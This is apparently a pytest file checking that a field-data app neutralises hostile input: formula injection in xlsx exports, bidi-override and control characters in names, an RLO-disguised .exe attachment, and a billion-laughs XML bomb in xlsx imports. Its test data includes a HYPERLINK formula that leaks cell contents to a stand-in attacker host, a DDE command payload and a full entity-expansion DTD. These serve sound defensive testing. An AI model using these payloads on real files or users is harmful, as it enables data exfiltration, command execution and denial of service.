"""Hostile input, each test written as the attack: formulas in exported text, bidi overrides and control characters
in any text field (services, xlsx import, attachment names), XML bombs and non-spreadsheets handed to the import."""

from __future__ import annotations

import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from app.models.validation import ValidationFailed, forbidden_character
from app.services import ListQuery
from app.services.errors import FieldDeskError
from app.services.profile.attachments import attach_file
from app.services.profile.filenames import is_executable, real_extension, safe_copy_name, visible_name
from app.services.store.export import export_json_text
from app.services.store.seed import country_id
from app.spreadsheets.export import export_database, export_list
from app.spreadsheets.importer import plan_import, write_template
from app.spreadsheets.read import ImportRefused

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A3,"click")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1)", "=1+1"]
HOSTILE = ["Ali \u202eexe.live Hassan", "Ali \u2067Hassan", "a\u202ab", "a\u202db", "a\u2069b", "NUL\x00name",
           "bell\x07", "esc\x1b[31m", "c1\x85", "del\x7f", "new\nline", "tab\tname"]


def _no_formula_anywhere(path):
    wb = load_workbook(path)  # not read-only: every cell's type as stored
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return wb, texts


def test_exported_text_that_looks_like_a_formula_stays_text(fd, tmp_path):
    for i, text in enumerate(FORMULAS):
        fd.participants.create({"full_name": text, "organisation": FORMULAS[-1 - i], "position": text})
    out = tmp_path / "people.xlsx"
    export_list(fd, "participant", ListQuery(), out)
    wb, texts = _no_formula_anywhere(out)
    for text in FORMULAS:
        assert texts.count(text) >= 3, f"{text!r} was not written intact"
    ws = wb.worksheets[0]
    guarded = [c for row in ws.iter_rows(min_row=2) for c in row if isinstance(c.value, str) and c.value[0] in "=+-@"]
    assert guarded and all(c.quotePrefix for c in guarded)  # Excel keeps them text when someone edits the cell
    whole = tmp_path / "all.xlsx"
    export_database(fd, whole)
    _, texts = _no_formula_anywhere(whole)
    assert FORMULAS[0] in texts


def test_the_template_writer_writes_no_formula(fd, tmp_path):
    out = tmp_path / "template.xlsx"
    write_template("participants", out)
    _no_formula_anywhere(out)


@pytest.mark.parametrize("text", HOSTILE, ids=repr)
def test_services_refuse_bidi_and_control_characters_in_any_text_field(fd, text):
    with pytest.raises(ValidationFailed) as refused:
        fd.participants.create({"full_name": text})
    [problem] = refused.value.problems
    assert problem.field == "full_name" and "Full name contains a character that is not allowed: U+" in problem.message
    with pytest.raises(ValidationFailed):
        fd.participants.create({"full_name": "Ana", "organisation": text})
    assert fd.participants.count() == 0
    pid = fd.participants.create({"full_name": "Ana López"})
    with pytest.raises(ValidationFailed, match="Organisation contains a character that is not allowed"):
        fd.participants.update(pid, {"organisation": text})
    assert fd.participants.get(pid).organisation == ""
    assert "U+202E (RIGHT-TO-LEFT OVERRIDE)" in str(_refusal(fd, "Ali \u202eexe.live"))


def _refusal(fd, name):
    with pytest.raises(ValidationFailed) as refused:
        fd.participants.create({"full_name": name})
    return refused.value


def test_long_text_keeps_tab_and_newline_but_not_bidi_overrides(fd):
    base = {"title": "Workshop", "country_id": country_id("GT"), "start_date": "2026-01-05",
            "end_date": "2026-01-07"}
    tid = fd.trainings.create({**base, "description": "Day 1:\tintroduction\r\nDay 2:\tpractice"})
    assert fd.trainings.get(tid).description == "Day 1:\tintroduction\r\nDay 2:\tpractice"
    with pytest.raises(ValidationFailed, match="Description contains a character that is not allowed: U\\+202E"):
        fd.trainings.update(tid, {"description": "fine\n\u202eenif"})
    with pytest.raises(ValidationFailed, match="Title contains a character that is not allowed: U\\+000A"):
        fd.trainings.create({**base, "title": "two\nlines"})


def test_arabic_and_hebrew_marks_stay_allowed(fd):
    # U+200F (right-to-left mark) and U+061C (Arabic letter mark) reorder nothing by force; RTL text needs them
    name = "\u0639\u0644\u064a \u062d\u0633\u0646\u200f (Ali Hassan)\u061c"
    assert forbidden_character(name) is None
    assert fd.participants.get(fd.participants.create({"full_name": name})).full_name == name


def test_xlsx_import_refuses_a_hostile_cell_naming_row_and_column_and_imports_nothing(fd, tmp_path):
    path = tmp_path / "people.xlsx"
    wb = Workbook()
    ws = wb.active
    ws.append(["Full name", "Organisation"])
    ws.append(["Rosa Tzul", "Organismo Judicial"])
    ws.append(["Ali \u202eexe.live Hassan", "Ministry"])
    ws.append(["Ana", "Org\u2066x"])
    wb.save(path)
    before = export_json_text(fd)
    plan = plan_import(fd, path)
    found = {(p.row, p.column): p.message for p in plan.problems}
    assert "U+202E (RIGHT-TO-LEFT OVERRIDE)" in found[(3, "Full name")]
    assert "U+2066 (LEFT-TO-RIGHT ISOLATE)" in found[(4, "Organisation")]
    assert "row 3, column 'Full name': Full name contains a character that is not allowed" in "\n".join(
        plan.describe())
    assert not plan.ok and export_json_text(fd) == before


def test_attachment_names_with_bidi_overrides_are_refused_before_anything_is_stored(fd, tmp_path):
    pid = fd.participants.create({"full_name": "Ana López"})
    trap = tmp_path / "invoice\u202efdp.exe"
    trap.write_bytes(b"MZ not a pdf")
    with pytest.raises(FieldDeskError, match="invoice\u27e8U\\+202E\u27e9fdp.exe cannot be attached: The file name "
                                             "contains a character that is not allowed: U\\+202E"):
        attach_file(fd, "participant", pid, trap)
    assert fd.attachments.count() == 0
    assert not any(p.is_file() for p in fd.folder.attachments_dir.rglob("*"))


def test_attachment_names_are_shown_in_stored_order_with_their_real_extension():
    name = "invoice\u202efdp.exe"
    assert visible_name(name) == "invoice\u27e8U+202E\u27e9fdp.exe"
    assert real_extension(name) == "exe" and is_executable(name)
    assert safe_copy_name(name) == "invoicefdp.exe"
    assert real_extension("report.EXE. ") == "exe"  # Windows drops the trailing dot and space and runs it
    for script in ("a.bat", "a.cmd", "a.com", "a.scr", "a.msi", "a.ps1", "a.vbs", "a.js", "a.jar", "a.sh", "a.app",
                   "a.lnk"):
        assert is_executable(script), script
    assert not is_executable("Mission report.pdf") and not is_executable("photo.jpeg")


BOMB = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
"""


def _with_part(source, target, part, text):
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
        for info in src.infolist():
            out.writestr(info, text if info.filename == part else src.read(info))


@pytest.mark.parametrize("part", ["xl/worksheets/sheet1.xml", "xl/workbook.xml", "xl/styles.xml"])
def test_a_billion_laughs_xlsx_is_refused_plainly(fd, tmp_path, part):
    honest = tmp_path / "honest.xlsx"
    wb = Workbook()
    wb.active.append(["Full name", "Organisation"])
    wb.active.append(["Rosa Tzul", "Organismo Judicial"])
    wb.save(honest)
    with zipfile.ZipFile(honest) as z:
        original = z.read(part).decode()
    body = original.split("?>", 1)[1] if original.startswith("<?xml") else original
    # the bomb's entity is used in a cell (or the workbook), where a reader expanding it would spend gigabytes
    body = body.replace("Rosa Tzul", "&lol9;", 1) if "Rosa Tzul" in body else body.replace("<sheets>", "<sheets>")
    bomb = tmp_path / "bomb.xlsx"
    _with_part(honest, bomb, part, BOMB + body)
    assert len(bomb.read_bytes()) < 10_000
    before = export_json_text(fd)
    with pytest.raises(ImportRefused) as refused:
        plan_import(fd, bomb)
    message = str(refused.value)
    assert f"bomb.xlsx is not a normal Excel workbook: its part {part} declares XML entities" in message
    assert "unexpected" not in message.lower()
    assert export_json_text(fd) == before


def test_openpyxl_reads_sheets_with_defusedxml():
    import openpyxl.xml.functions as functions

    assert functions.DEFUSEDXML is True and functions.iterparse.__module__.startswith("defusedxml")


@pytest.mark.parametrize("content,expected", [
    (b"MZ\x90\x00 this is a program", "is not an Excel .xlsx file"),
    (b"Full name,Organisation\nRosa,OJ\n", "is not an Excel .xlsx file"),
    (None, "is a zip archive but not an Excel .xlsx workbook"),
    ("garbage", "is damaged or is not an Excel .xlsx file"),
])
def test_a_file_that_is_not_a_spreadsheet_is_refused_plainly(fd, tmp_path, content, expected):
    path = tmp_path / "people.xlsx"
    if content is None:
        with zipfile.ZipFile(path, "w") as z:
            z.writestr("readme.txt", "hello")
    elif content == "garbage":
        honest = tmp_path / "honest.xlsx"
        Workbook().save(honest)
        _with_part(honest, path, "xl/workbook.xml", "this is not xml <<<")
    else:
        path.write_bytes(content)
    with pytest.raises(ImportRefused, match=expected) as refused:
        plan_import(fd, path)
    assert "unexpected" not in str(refused.value).lower()


def test_an_oversized_name_is_refused_through_the_services_and_the_xlsx_import(fd, tmp_path):
    """The third door, after the bundle's (tests/sync/test_incoming_values.py): a name longer than its field."""
    with pytest.raises(ValidationFailed) as refused:
        fd.participants.create({"full_name": "A" * 201})
    [problem] = refused.value.problems
    assert problem.field == "full_name" and "200" in problem.message, problem.message
    path = tmp_path / "people.xlsx"
    wb = Workbook()
    wb.active.append(["Full name", "Organisation"])
    wb.active.append(["Rosa Tzul", "Organismo Judicial"])
    wb.active.append(["A" * 201, "Ministry"])
    wb.save(path)
    before = export_json_text(fd)
    plan = plan_import(fd, path)
    found = {(p.row, p.column): p.message for p in plan.problems}
    assert "200" in found[(3, "Full name")], found
    assert not plan.ok and export_json_text(fd) == before and fd.participants.count() == 0
